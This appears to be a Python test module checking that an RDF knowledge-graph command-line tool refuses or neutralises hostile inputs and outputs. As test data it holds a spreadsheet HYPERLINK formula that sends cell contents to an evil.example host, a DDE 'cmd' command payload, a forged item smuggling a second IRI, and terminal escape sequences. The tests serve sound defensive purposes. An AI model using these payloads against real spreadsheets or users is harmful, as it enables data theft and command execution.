"""Second round of hostile inputs and outputs: RDF 1.2 terms, control characters, over-long terms,
deep or broken FtM JSON, YAML alias bombs in query files, forged review items, special files as
outputs, spreadsheet formulas, and full or read-only disks.

Each refusal is one located line, exit status 2, and nothing written; the corpus files live in
``tests/security/hostile/`` beside the first round's.
"""

from __future__ import annotations

import errno
import os
import stat
import tempfile
from collections.abc import Callable
from pathlib import Path
from xml.etree import ElementTree

import pytest
from click.testing import Result

from rightsgraph.graph import KnowledgeGraph
from tests.conftest import require
from tests.security.test_hostile_inputs import CORPUS, no_network, refused  # noqa: F401  (autouse fixture)

CASES = {
    "rdf12-triple-term.ttl": 2,
    "rdf12-annotation.ttl": 3,
    "rdf12-triple-term.nt": 1,
}
TRIPLE_TERMS = "RDF 1.2 triple terms (<< ... >>, <<( ... )>>) and annotations ({| ... |}) are not supported; state the fact with a node of its own"


@pytest.mark.parametrize("file", sorted(CASES))
def test_rdf_1_2_triple_terms_are_refused_where_they_are(file: str, cli: Callable[..., Result], tmp_path: Path) -> None:
    stderr = refused(cli, tmp_path, [CORPUS / file])
    assert stderr.splitlines()[0] == f"{CORPUS / file}:{CASES[file]}: {TRIPLE_TERMS}"


@pytest.mark.parametrize("file", sorted(CASES))
def test_rdf_1_2_triple_terms_are_refused_when_streamed(file: str, cli: Callable[..., Result], tmp_path: Path) -> None:
    result = cli("build", CORPUS / file, "--store", tmp_path / "store", "--no-validate")
    assert result.exit_code == 2 and "Traceback" not in result.output
    assert result.stderr.splitlines()[0] == f"{CORPUS / file}: {TRIPLE_TERMS}"
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(("file", "line", "code"), [("rdf-control-escape.nt", 2, "001B"), ("rdf-control-nul.nt", 1, "0000")])
def test_control_characters_in_rdf_literals_are_refused(file: str, line: int, code: str, cli: Callable[..., Result], tmp_path: Path) -> None:
    stderr = refused(cli, tmp_path, [CORPUS / file])
    assert stderr.splitlines()[0] == f"{CORPUS / file}:{line}: contains the control character U+{code}"


@pytest.mark.parametrize("where", ["iri", "literal"])
def test_terms_longer_than_the_parser_reads_are_one_line(where: str, cli: Callable[..., Result], tmp_path: Path) -> None:
    inputs = tmp_path / "inputs"
    inputs.mkdir()
    path = inputs / "long.nt"
    long = "x" * (16 * 1024 * 1024 + 10)
    term = f"<https://example.org/{long}> <https://example.org/p> \"x\"" if where == "iri" else f"<https://example.org/a> <https://example.org/p> \"{long}\""
    path.write_text('<https://example.org/a> <https://example.org/p> "short" .\n' + term + " .\n", encoding="utf-8")
    stderr = refused(cli, tmp_path, [path])
    assert stderr.splitlines()[0] == f"{path}:2: an IRI or literal is longer than 16 MB, which the RDF parser does not read"


def ftm_import(cli: Callable[..., Result], path: Path, out: Path) -> Result:
    pytest.importorskip("followthemoney", reason="the 'ftm' extra is not installed")
    return cli("import", "ftm", path, "--out", out)


def test_ftm_json_nested_5000_deep_is_one_line(cli: Callable[..., Result], tmp_path: Path) -> None:
    path = tmp_path / "deep.ftm.json"
    path.write_text('{"id": "p1", "schema": "Person", "properties": {"name": ' + "[" * 5000 + "]" * 5000 + "}}\n", encoding="utf-8")
    result = ftm_import(cli, path, tmp_path / "out.trig")
    assert result.exit_code == 2 and "Traceback" not in result.output
    assert result.stderr.splitlines()[0] == f"{path}:1: JSON nested too deeply (an FtM entity is a flat object of lists)"
    assert not (tmp_path / "out.trig").exists()


def test_ftm_values_are_cleaned_as_ftm_cleans_them(cli: Callable[..., Result], tmp_path: Path) -> None:
    """A lone surrogate or an escape sequence in a name is dropped (FtM's own rule), not a crash."""
    out = tmp_path / "out.trig"
    result = ftm_import(cli, CORPUS / "ftm-unsafe-text.ftm.json", out)
    assert result.exit_code == 0, result.output
    written = out.read_text(encoding="utf-8")
    assert "Lone  surrogate" in written and "Red [31malert" in written
    assert "\x1b" not in written and "\\u001b" not in written.lower() and "\\ud800" not in written.lower()


def test_ftm_id_with_a_control_character_is_refused(cli: Callable[..., Result], tmp_path: Path) -> None:
    result = ftm_import(cli, CORPUS / "ftm-control-id.ftm.json", tmp_path / "out.trig")
    assert result.exit_code == 2
    assert result.stderr.splitlines()[0] == f"{CORPUS / 'ftm-control-id.ftm.json'}:1: id: contains U+0000, which is not text"


def test_yaml_alias_bomb_in_query_decorators(cli: Callable[..., Result]) -> None:
    path = CORPUS / "rq-alias-bomb.rq"
    result = cli("query", "--file", path)
    assert result.exit_code == 2
    assert result.stderr == f"error: {path}: the '#+' decorator lines use YAML aliases (*name), which are not accepted\n"


def test_link_apply_refuses_an_item_that_is_not_a_wikidata_iri(cli: Callable[..., Result], tmp_path: Path) -> None:
    path = CORPUS / "link-review-angle-bracket.yaml"
    result = cli("link", "apply", path, "--out", tmp_path / "links.trig")
    assert result.exit_code == 2 and "Traceback" not in result.output
    assert result.stderr.splitlines()[0] == f"{path}:6: item: 'http://www.wikidata.org/entity/Q1> <http://evil.example/x' is not a Wikidata item IRI (http://www.wikidata.org/entity/Q...)"
    assert list(tmp_path.iterdir()) == []


# -- outputs: special files, full and read-only disks ---------------------------------------------


def special_files(folder: Path) -> dict[str, Path]:
    pipe = folder / "pipe"
    os.mkfifo(pipe)
    found = {"a named pipe": pipe}
    device = folder / "null"
    try:
        os.mknod(device, stat.S_IFCHR | 0o666, os.makedev(1, 3))
        found["a device"] = device
    except PermissionError:
        require(False, "cannot make a device node here (needs root or CAP_MKNOD)")
    return found


@pytest.mark.parametrize("command", ["export", "view"])
def test_outputs_never_replace_special_files(command: str, cli: Callable[..., Result], tmp_path: Path) -> None:
    for kind, path in special_files(tmp_path).items():
        mode = path.stat().st_mode
        if command == "export":
            result = cli("export", "--format", "trig", "--out", path)
        else:
            result = cli("view", "overview", "--out", path)
        assert result.exit_code == 2, (kind, result.output)
        assert result.stderr == f"error: {path}: is {kind}, not a file; give the path of a file to write\n"
        assert path.stat().st_mode == mode
    assert sorted(p.name for p in tmp_path.iterdir()) == ["null", "pipe"]


def half_then_full(self: Path, data: object, *args: object, **kwargs: object) -> int:
    with open(self, "w", encoding="utf-8") as handle:
        handle.write(str(data)[: len(str(data)) // 2])
    raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(self))


def test_view_on_a_full_disk_leaves_the_old_page_whole(cli: Callable[..., Result], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    page = tmp_path / "overview.html"
    page.write_text("<!doctype html><p>the previous view</p>\n", encoding="utf-8")
    monkeypatch.setattr(Path, "write_text", half_then_full)
    result = cli("view", "overview", "--out", page)
    assert result.exit_code == 2
    assert result.stderr == f"error: {page}: cannot write: No space left on device; nothing was written\n"
    assert page.read_text(encoding="utf-8") == "<!doctype html><p>the previous view</p>\n"
    assert [p.name for p in tmp_path.iterdir()] == ["overview.html"]


def test_export_on_a_full_disk_writes_nothing(cli: Callable[..., Result], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def dump_half(self: KnowledgeGraph, output: object, *args: object, **kwargs: object) -> None:
        output.write(b"<https://example.org/a> <https://example.org/p> ")  # type: ignore[attr-defined]
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(KnowledgeGraph, "dump", dump_half)
    result = cli("export", "--format", "nquads", "--out", tmp_path / "all.nq")
    assert result.exit_code == 2
    assert result.stderr == f"error: {tmp_path / 'all.nq'}: cannot write: No space left on device; nothing was written\n"
    assert list(tmp_path.iterdir()) == []


def test_export_on_a_read_only_file_system(cli: Callable[..., Result], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def read_only(*args: object, **kwargs: object) -> tuple[int, str]:
        raise OSError(errno.EROFS, os.strerror(errno.EROFS), str(tmp_path))

    monkeypatch.setattr(tempfile, "mkstemp", read_only)
    result = cli("export", "--format", "trig", "--out", tmp_path / "all.trig")
    assert result.exit_code == 2
    assert result.stderr == f"error: {tmp_path / 'all.trig'}: cannot write: Read-only file system; nothing was written\n"


# -- spreadsheets and terminals ------------------------------------------------------------------

FORMULAS = """\
@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .
<https://example.org/1> rdfs:label "=HYPERLINK(\\"http://evil.example/?\\"&A1,\\"Details\\")" .
<https://example.org/2> rdfs:label "+cmd|' /C calc'!A0" .
<https://example.org/3> rdfs:label "-2+3" .
<https://example.org/4> rdfs:label "@SUM(A1:A9)" .
<https://example.org/5> rdfs:label "-12.5" .
<https://example.org/6> rdfs:label "plain, with a comma" .
"""
LABELS = "SELECT ?label WHERE { ?s rdfs:label ?label FILTER(STRSTARTS(STR(?s), 'https://example.org/')) } ORDER BY ?s"


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_spreadsheet_formulas_are_neutralised(fmt: str, cli: Callable[..., Result], tmp_path: Path) -> None:
    import csv
    import io

    data = tmp_path / "formulas.ttl"
    data.write_text(FORMULAS, encoding="utf-8")
    result = cli("sparql", LABELS, "--input", data, "--format", fmt)
    assert result.exit_code == 0, result.stderr
    cells = [row[0] for row in csv.reader(io.StringIO(result.stdout), delimiter="," if fmt == "csv" else "\t")][1:]
    assert cells == ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"Details\")", "'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1:A9)", "-12.5", "plain, with a comma"]
    raw = cli("sparql", LABELS, "--input", data, "--format", fmt, "--raw-cells")
    assert [row[0] for row in csv.reader(io.StringIO(raw.stdout), delimiter="," if fmt == "csv" else "\t")][1:3] == ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Details\")", "+cmd|' /C calc'!A0"]


@pytest.fixture
def store_with_escapes(cli: Callable[..., Result], tmp_path: Path) -> Path:
    """A store streamed in without validation (which does not scan every literal) holding ESC and NUL."""
    data = tmp_path / "escapes.nt"
    data.write_text(
        '<https://example.org/p> <http://www.w3.org/1999/02/22-rdf-syntax-ns#type> <https://w3id.org/rightsgraph/ns#Person> .\n'
        '<https://example.org/p> <http://www.w3.org/2000/01/rdf-schema#label> "Red \\u001B[31malert\\u0000" .\n',
        encoding="utf-8",
    )
    store = tmp_path / "store"
    result = cli("build", data, "--store", store, "--no-validate")
    assert result.exit_code == 0, result.output
    return store


def test_escapes_do_not_reach_the_terminal(store_with_escapes: Path, cli: Callable[..., Result]) -> None:
    result = cli("sparql", "SELECT ?l WHERE { <https://example.org/p> rdfs:label ?l }", "--store", store_with_escapes, "--format", "table")
    assert result.exit_code == 0, result.stderr
    assert "\x1b" not in result.stdout and "\x00" not in result.stdout
    assert "Red \\x1b[31malert\\x00" in result.stdout


@pytest.mark.parametrize("fmt", ["gexf", "graphml"])
def test_network_exports_stay_valid_xml(fmt: str, store_with_escapes: Path, cli: Callable[..., Result], tmp_path: Path) -> None:
    out = tmp_path / f"network.{fmt}"
    result = cli("export", "--format", fmt, "--out", out, "--store", store_with_escapes)
    assert result.exit_code == 0, result.output
    labels = [element.attrib.get("label") or element.text for element in ElementTree.parse(out).iter() if "Red" in (element.attrib.get("label") or element.text or "")]
    assert labels == ["Red \ufffd[31malert\ufffd"]
